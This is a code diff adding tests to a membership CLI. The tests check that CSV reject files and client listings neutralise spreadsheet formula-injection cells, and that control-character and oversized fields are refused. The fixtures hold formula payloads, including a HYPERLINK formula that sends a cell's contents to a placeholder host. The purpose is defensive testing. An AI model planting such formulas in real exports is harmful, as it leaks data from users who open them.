@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import hashlib
+import io
 import uuid
 from pathlib import Path
 from typing import Any
@@ -67,7 +68,7 @@ def write_register(path: Path, rows: list[dict[str, str]], header: list[str] = H
 
 
 def read_rejects(path: Path) -> list[dict[str, str]]:
-    with path.open(encoding="utf-8") as handle:
+    with path.open(encoding="utf-8", newline="") as handle:
         return list(csv.DictReader(handle))
 
 
@@ -194,6 +195,81 @@ async def test_members_import_refuses_a_file_it_cannot_read_before_writing(
     assert await scalar(db, "SELECT count(*) FROM members") == 0
 
 
+# What a spreadsheet runs as a formula when a cell starts with it (the reject file is opened in one
+# to fix the rows).
+FORMULAS = {
+    "first_name": '=HYPERLINK("https://x.example/?"&A1,"fix")',
+    "last_name": "@SUM(A1)",
+    "phone": "+4712",
+    "points": "-1",
+    "tier": "\tGOLD",
+    "member_since": "\r2019-05-17",
+}
+
+
+async def test_members_import_reject_file_defuses_formula_cells(
+    db: AsyncEngine, cli_env: object, tmp_path: Path
+) -> None:
+    register = write_register(tmp_path / "register.csv", [register_row(1, **FORMULAS)])
+
+    result = await tillit("members", "import", str(register))
+
+    assert result.exit_code == 0, result.output
+    [rejected] = read_rejects(tmp_path / "register.rejects.csv")
+    assert rejected["code"] == "BAD_ROW"
+    assert {k: rejected[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
+    assert rejected["email"] == "ola1@example.no"
+
+
+@pytest.mark.parametrize("separator", ["\u2028", "\u2029"])
+@pytest.mark.parametrize(
+    ("column", "value"),
+    [
+        ("first_name", "Ola{}Kari"),
+        ("last_name", "Nordmann{}"),
+        ("street", "{}Storgata 1"),
+        ("city", "Os{}lo"),
+        ("terms_version", "2024{}01"),
+        ("external_subject", "auth0|42{}"),
+    ],
+)
+async def test_members_import_refuses_line_and_paragraph_separators_as_the_api_does(
+    db: AsyncEngine, cli_env: object, tmp_path: Path, separator: str, column: str, value: str
+) -> None:
+    # The API refuses these characters in any text it is sent; the import takes the same fields.
+    header = [*HEADER, "street", "city", "terms_version", "external_subject"]
+    register = write_register(
+        tmp_path / "register.csv",
+        [register_row(1), register_row(2, **{column: value.format(separator)})],
+        header,
+    )
+
+    result = await tillit("members", "import", str(register))
+
+    assert result.exit_code == 0, result.output
+    assert "imported: 1 members" in result.output
+    rejects = read_rejects(tmp_path / "register.rejects.csv")
+    assert [(r["line"], r["code"]) for r in rejects] == [("3", "BAD_ROW")]
+    assert separator not in rejects[0]["reason"]
+    assert await scalar(db, "SELECT count(*) FROM members") == 1
+
+
+async def test_members_import_names_the_line_of_an_oversized_field(
+    db: AsyncEngine, cli_env: object, tmp_path: Path
+) -> None:
+    # Beyond the csv module's field limit (131,072 characters) the file cannot be read at all.
+    rows = [register_row(1), register_row(2, street="x" * 131_073), register_row(3)]
+    register = write_register(tmp_path / "register.csv", rows, [*HEADER, "street"])
+
+    result = await tillit("members", "import", str(register))
+
+    assert result.exit_code == 1
+    assert "line 3: unreadable CSV: field larger than field limit" in " ".join(
+        result.output.split()
+    )
+    assert await scalar(db, "SELECT count(*) FROM members") == 0
+
+
 async def test_members_erase_forgets_a_member_for_the_dpo(db: AsyncEngine, cli_env: object) -> None:
     member_id = await add_member(db)
     grant_id = await grant(db, member_id, "personalized_offers")
@@ -256,6 +332,19 @@ async def test_clients_list_shows_every_client_and_no_key(db: AsyncEngine, cli_e
     rows = list(csv.DictReader(result.output.splitlines()))
     assert [(r["name"], r["role"], r["state"]) for r in rows] == [("web-shop", "app", "active")]
     assert shop.key not in result.output
+
+
+async def test_clients_list_as_csv_defuses_formula_cells(db: AsyncEngine, cli_env: object) -> None:
+    # Names are stripped when a client is created, so none can start with a space or a tab.
+    names = ['=HYPERLINK("https://x.example")', "+1", "-1", "@SUM(A1)", "\uff1d1+1", "web-shop"]
+    for name in names:
+        await add_client(db, name=name)
+
+    result = await tillit("clients", "list", "--format", "csv")
+
+    assert result.exit_code == 0, result.output
+    listed = {r["name"] for r in csv.DictReader(io.StringIO(result.output))}
+    assert listed == {"'" + n for n in names[:-1]} | {"web-shop"}
 
 
 async def test_clients_disable_and_enable_are_audited_and_refuse_the_key(
